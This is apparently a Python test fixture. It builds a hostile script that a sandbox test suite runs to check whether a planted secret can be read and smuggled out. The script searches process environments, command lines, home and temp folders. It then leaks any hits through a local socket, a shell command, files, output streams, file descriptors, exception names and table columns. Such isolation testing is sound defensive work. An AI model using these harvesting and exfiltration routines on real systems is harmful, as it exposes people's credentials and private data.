"""A panelist's script that tries to get at a planted secret and to carry it away.

It is never imported: tests hand its text to the panel. Words in capitals are replaced. What it
finds it puts into everything that it can reach: its table, files, its error's name and the network.
"""

SOURCE = """
import glob
import os
import socket
import subprocess
import sys

import numpy as np
import pandas as pd

loot = []
escapes = []


def look(path):
    try:
        with open(path, "rb") as file:
            content = file.read(1000000)
        if b"MARKER" in content:
            loot.append(content)
    except Exception:
        pass


def carry(data):
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=60).sendall(data)
        escapes.append("socket")
    except Exception:
        pass
    try:
        subprocess.run(["/bin/sh", "-c", "echo stolen > FOLDER/by-a-shell"], timeout=60, check=True)
        escapes.append("shell")
    except Exception:
        pass
    try:
        if os.fork() == 0:
            os._exit(0)
        escapes.append("fork")
    except Exception:
        pass
    try:
        with open("FOLDER/by-python", "wb") as file:
            file.write(data)
        escapes.append("file")
    except Exception:
        pass
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        try:
            print("MARKER-printed", data, file=stream, flush=True)
        except Exception:
            pass
    if MODE == "descriptors":
        for number in range(3, 20):
            try:
                os.write(number, b"MARKER-written")
            except Exception:
                pass


for path in PATHS:
    look(path)
for pattern in PATTERNS:
    for path in glob.glob(pattern):
        look(path)
if "MARKER" in repr(dict(os.environ)):
    loot.append(b"environment")
carry(b"".join(loot) or b"MARKER-nothing")


def generate(n, label, summary, rng):
    columns = summary["schema"]["columns"]
    table = pd.DataFrame(rng.uniform(1, 50, (n, len(columns))), columns=columns)
    table[columns[0]] = float(len(loot) > 0)
    table[columns[1]] = float(len(escapes) > 0)
    if MODE == "error":
        raise type("MARKER_" + (loot[0].hex() if loot else ""), (Exception,), {})("MARKER")
    if MODE == "columns":
        table["MARKER"] = "MARKER"
    return table
"""


PATTERNS = ("/proc/*/environ", "/proc/*/cmdline", "/home/*/*", "/tmp/*")


def hostile(mode, *, marker, paths, port, folder, patterns=PATTERNS):
    """The script for a marker that stands for a learner's secret."""
    return (
        SOURCE.replace("MODE", repr(mode))
        .replace("PATTERNS", repr(patterns))
        .replace("MARKER", marker)
        .replace("PATHS", repr([str(path) for path in paths]))
        .replace("PORT", str(port))
        .replace("FOLDER", str(folder))
    )
